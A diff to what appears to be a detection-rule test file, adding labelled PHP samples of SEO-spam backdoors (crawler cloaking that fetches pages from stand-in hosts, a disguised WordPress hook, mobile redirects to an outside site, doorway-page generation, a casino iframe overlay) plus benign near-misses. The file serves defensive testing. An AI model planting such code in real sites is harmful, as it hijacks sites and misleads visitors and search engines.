@@ -1391,6 +1391,174 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
         plain(
+            "<?php\n$UA = $_SERVER['HTTP_USER_AGENT'];\nif (false !== stripos($UA, 'Googlebot') || false !== stripos($UA, 'Bingbot')) {\n    $out = file_get_contents(sprintf('http://%s/door.php?h=%s&u=%s', 'node7.example.top', $_SERVER['HTTP_HOST'], urlencode($_SERVER['REQUEST_URI'])));\n    echo $out;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_yoda_strpos plain
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        padded(
+            "<?php\n$UA = $_SERVER['HTTP_USER_AGENT'];\nif (false !== stripos($UA, 'Googlebot') || false !== stripos($UA, 'Bingbot')) {\n    $out = file_get_contents(sprintf('http://%s/door.php?h=%s&u=%s', 'node7.example.top', $_SERVER['HTTP_HOST'], urlencode($_SERVER['REQUEST_URI'])));\n    echo $out;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_yoda_strpos padded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        embedded(
+            "<?php\n$UA = $_SERVER['HTTP_USER_AGENT'];\nif (false !== stripos($UA, 'Googlebot') || false !== stripos($UA, 'Bingbot')) {\n    $out = file_get_contents(sprintf('http://%s/door.php?h=%s&u=%s', 'node7.example.top', $_SERVER['HTTP_HOST'], urlencode($_SERVER['REQUEST_URI'])));\n    echo $out;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_yoda_strpos embedded
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        plain(
+            "<?php\nif (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $fh = fopen('http://s.example.top/p?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']), 'r');\n    $page = stream_get_contents($fh);\n    fclose($fh);\n    echo $page;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_fopen_stream plain
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        padded(
+            "<?php\nif (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $fh = fopen('http://s.example.top/p?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']), 'r');\n    $page = stream_get_contents($fh);\n    fclose($fh);\n    echo $page;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_fopen_stream padded
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        embedded(
+            "<?php\nif (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $fh = fopen('http://s.example.top/p?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']), 'r');\n    $page = stream_get_contents($fh);\n    fclose($fh);\n    echo $page;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_fopen_stream embedded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        plain(
+            "<?php\nfunction theme_assets_preload() {\n    if (is_admin()) return;\n    $a = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n    if (stripos($a, 'googlebot') === false && stripos($a, 'bingbot') === false) return;\n    echo wp_remote_retrieve_body(wp_remote_get('http://assets-cdn.example.top/x/?d=' . urlencode(home_url()) . '&p=' . urlencode($_SERVER['REQUEST_URI'])));\n    exit;\n}\nadd_action('template_redirect', 'theme_assets_preload', 0);\n?>"
+        ),
+        True,
+    ),  # b5_wp_body_nested plain
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        padded(
+            "<?php\nfunction theme_assets_preload() {\n    if (is_admin()) return;\n    $a = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n    if (stripos($a, 'googlebot') === false && stripos($a, 'bingbot') === false) return;\n    echo wp_remote_retrieve_body(wp_remote_get('http://assets-cdn.example.top/x/?d=' . urlencode(home_url()) . '&p=' . urlencode($_SERVER['REQUEST_URI'])));\n    exit;\n}\nadd_action('template_redirect', 'theme_assets_preload', 0);\n?>"
+        ),
+        True,
+    ),  # b5_wp_body_nested padded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        embedded(
+            "<?php\nfunction theme_assets_preload() {\n    if (is_admin()) return;\n    $a = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n    if (stripos($a, 'googlebot') === false && stripos($a, 'bingbot') === false) return;\n    echo wp_remote_retrieve_body(wp_remote_get('http://assets-cdn.example.top/x/?d=' . urlencode(home_url()) . '&p=' . urlencode($_SERVER['REQUEST_URI'])));\n    exit;\n}\nadd_action('template_redirect', 'theme_assets_preload', 0);\n?>"
+        ),
+        True,
+    ),  # b5_wp_body_nested embedded
+    (
+        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
+        plain(
+            "<?php\n$list = file('keys.txt');\nforeach ($list as $key) {\n    $key = trim($key);\n    $html = str_ireplace('%KEY%', $key, $template);\n    $fp = fopen(preg_replace('/\\s+/', '-', $key) . '.htm', 'w');\n    fwrite($fp, $html);\n    fclose($fp);\n}\n$sm = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        True,
+    ),  # b5_doorway_fwrite plain
+    (
+        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
+        padded(
+            "<?php\n$list = file('keys.txt');\nforeach ($list as $key) {\n    $key = trim($key);\n    $html = str_ireplace('%KEY%', $key, $template);\n    $fp = fopen(preg_replace('/\\s+/', '-', $key) . '.htm', 'w');\n    fwrite($fp, $html);\n    fclose($fp);\n}\n$sm = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        True,
+    ),  # b5_doorway_fwrite padded
+    (
+        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
+        embedded(
+            "<?php\n$list = file('keys.txt');\nforeach ($list as $key) {\n    $key = trim($key);\n    $html = str_ireplace('%KEY%', $key, $template);\n    $fp = fopen(preg_replace('/\\s+/', '-', $key) . '.htm', 'w');\n    fwrite($fp, $html);\n    fclose($fp);\n}\n$sm = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        True,
+    ),  # b5_doorway_fwrite embedded
+    (
+        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
+        plain(
+            "<?php\nadd_action('init', function () {\n    if (wp_is_mobile() && empty($_COOKIE['wpm_seen']) && !is_user_logged_in()) {\n        setcookie('wpm_seen', '1', time() + DAY_IN_SECONDS, '/');\n        wp_redirect('https://mob-gift.example.top/?s=' . $_SERVER['HTTP_HOST']);\n        exit;\n    }\n});\n?>"
+        ),
+        True,
+    ),  # b5_wp_is_mobile plain
+    (
+        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
+        padded(
+            "<?php\nadd_action('init', function () {\n    if (wp_is_mobile() && empty($_COOKIE['wpm_seen']) && !is_user_logged_in()) {\n        setcookie('wpm_seen', '1', time() + DAY_IN_SECONDS, '/');\n        wp_redirect('https://mob-gift.example.top/?s=' . $_SERVER['HTTP_HOST']);\n        exit;\n    }\n});\n?>"
+        ),
+        True,
+    ),  # b5_wp_is_mobile padded
+    (
+        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
+        embedded(
+            "<?php\nadd_action('init', function () {\n    if (wp_is_mobile() && empty($_COOKIE['wpm_seen']) && !is_user_logged_in()) {\n        setcookie('wpm_seen', '1', time() + DAY_IN_SECONDS, '/');\n        wp_redirect('https://mob-gift.example.top/?s=' . $_SERVER['HTTP_HOST']);\n        exit;\n    }\n});\n?>"
+        ),
+        True,
+    ),  # b5_wp_is_mobile embedded
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        plain(
+            "<?php\n$ch = curl_init('http://tpl.example.top/render.php?host=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\ncurl_setopt($ch, CURLOPT_USERAGENT, $_SERVER['HTTP_USER_AGENT']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$res = curl_exec($ch);\nif ($res !== false && strlen($res) > 50) { echo $res; exit; }\n?>"
+        ),
+        True,
+    ),  # b5_ua_forward_proxy plain
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        padded(
+            "<?php\n$ch = curl_init('http://tpl.example.top/render.php?host=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\ncurl_setopt($ch, CURLOPT_USERAGENT, $_SERVER['HTTP_USER_AGENT']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$res = curl_exec($ch);\nif ($res !== false && strlen($res) > 50) { echo $res; exit; }\n?>"
+        ),
+        True,
+    ),  # b5_ua_forward_proxy padded
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        embedded(
+            "<?php\n$ch = curl_init('http://tpl.example.top/render.php?host=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\ncurl_setopt($ch, CURLOPT_USERAGENT, $_SERVER['HTTP_USER_AGENT']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$res = curl_exec($ch);\nif ($res !== false && strlen($res) > 50) { echo $res; exit; }\n?>"
+        ),
+        True,
+    ),  # b5_ua_forward_proxy embedded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        plain(
+            "<?php\n$sp = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($sp, 'baiduspider') !== false || strpos($sp, 'sogou') !== false || strpos($sp, '360spider') !== false) {\n    $s = file_get_contents('http://cn.example.top/index.php?host=' . $_SERVER['HTTP_HOST'] . '&url=' . $_SERVER['REQUEST_URI']);\n    echo $s;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_baidu_cn plain
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        padded(
+            "<?php\n$sp = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($sp, 'baiduspider') !== false || strpos($sp, 'sogou') !== false || strpos($sp, '360spider') !== false) {\n    $s = file_get_contents('http://cn.example.top/index.php?host=' . $_SERVER['HTTP_HOST'] . '&url=' . $_SERVER['REQUEST_URI']);\n    echo $s;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_baidu_cn padded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        embedded(
+            "<?php\n$sp = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($sp, 'baiduspider') !== false || strpos($sp, 'sogou') !== false || strpos($sp, '360spider') !== false) {\n    $s = file_get_contents('http://cn.example.top/index.php?host=' . $_SERVER['HTTP_HOST'] . '&url=' . $_SERVER['REQUEST_URI']);\n    echo $s;\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_baidu_cn embedded
+    (
+        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
+        plain(
+            "<?php\nif (preg_match('/(google|bing|yahoo)\\./', $_SERVER['HTTP_REFERER'])) {\n    echo '<iframe src=\"http://casino.example.top/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>';\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_referer_iframe plain
+    (
+        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
+        padded(
+            "<?php\nif (preg_match('/(google|bing|yahoo)\\./', $_SERVER['HTTP_REFERER'])) {\n    echo '<iframe src=\"http://casino.example.top/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>';\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_referer_iframe padded
+    (
+        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
+        embedded(
+            "<?php\nif (preg_match('/(google|bing|yahoo)\\./', $_SERVER['HTTP_REFERER'])) {\n    echo '<iframe src=\"http://casino.example.top/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>';\n    exit;\n}\n?>"
+        ),
+        True,
+    ),  # b5_referer_iframe embedded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        plain(
             "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
         ),
         False,
@@ -2228,4 +2396,172 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         False,
     ),  # near-miss referer_list_stats embedded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        plain(
+            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
+        ),
+        False,
+    ),  # near-miss mobile_app_promo
+    (
+        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
+        plain(
+            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
+        ),
+        False,
+    ),  # near-miss mobile_app_promo
+    (
+        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
+        plain(
+            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
+        ),
+        False,
+    ),  # near-miss mobile_app_promo
+    (
+        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
+        plain(
+            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
+        ),
+        False,
+    ),  # near-miss mobile_app_promo
+    (
+        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
+        plain(
+            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
+        ),
+        False,
+    ),  # near-miss mobile_app_promo
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        plain(
+            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
+        ),
+        False,
+    ),  # near-miss mobile_app_promo
+    (
+        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
+        plain(
+            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
+        ),
+        False,
+    ),  # near-miss mobile_app_promo
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        embedded(
+            "<?php\nif (wp_is_mobile() && empty($_COOKIE['app_promo'])) {\n    setcookie('app_promo', '1', time() + WEEK_IN_SECONDS, '/');\n    wp_redirect(home_url('/get-the-app/'));\n    exit;\n}\n?>"
+        ),
+        False,
+    ),  # near-miss mobile_app_promo embedded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        plain(
+            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        False,
+    ),  # near-miss static_export_keys
+    (
+        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
+        plain(
+            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        False,
+    ),  # near-miss static_export_keys
+    (
+        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
+        plain(
+            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        False,
+    ),  # near-miss static_export_keys
+    (
+        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
+        plain(
+            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        False,
+    ),  # near-miss static_export_keys
+    (
+        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
+        plain(
+            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        False,
+    ),  # near-miss static_export_keys
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        plain(
+            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        False,
+    ),  # near-miss static_export_keys
+    (
+        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
+        plain(
+            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        False,
+    ),  # near-miss static_export_keys
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        embedded(
+            "<?php\n$tpl = file_get_contents(__DIR__ . '/layout.html');\nforeach ($pages as $key => $page) {\n    $html = str_replace(array('{TITLE}', '{BODY}'), array($page['title'], $page['body']), $tpl);\n    file_put_contents($out . '/' . $key . '.html', $html);\n}\n$map = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
+        ),
+        False,
+    ),  # near-miss static_export_keys embedded
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        plain(
+            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
+        ),
+        False,
+    ),  # near-miss bot_negated_local_cache
+    (
+        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
+        plain(
+            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
+        ),
+        False,
+    ),  # near-miss bot_negated_local_cache
+    (
+        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
+        plain(
+            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
+        ),
+        False,
+    ),  # near-miss bot_negated_local_cache
+    (
+        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
+        plain(
+            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
+        ),
+        False,
+    ),  # near-miss bot_negated_local_cache
+    (
+        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
+        plain(
+            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
+        ),
+        False,
+    ),  # near-miss bot_negated_local_cache
+    (
+        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
+        plain(
+            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
+        ),
+        False,
+    ),  # near-miss bot_negated_local_cache
+    (
+        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
+        plain(
+            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
+        ),
+        False,
+    ),  # near-miss bot_negated_local_cache
+    (
+        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
+        embedded(
+            "<?php\nif (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n    return;\n}\n$cached = file_get_contents(WP_CONTENT_DIR . '/cache/amp/' . md5($_SERVER['REQUEST_URI']) . '.html');\necho $cached;\n?>"
+        ),
+        False,
+    ),  # near-miss bot_negated_local_cache embedded
 ]
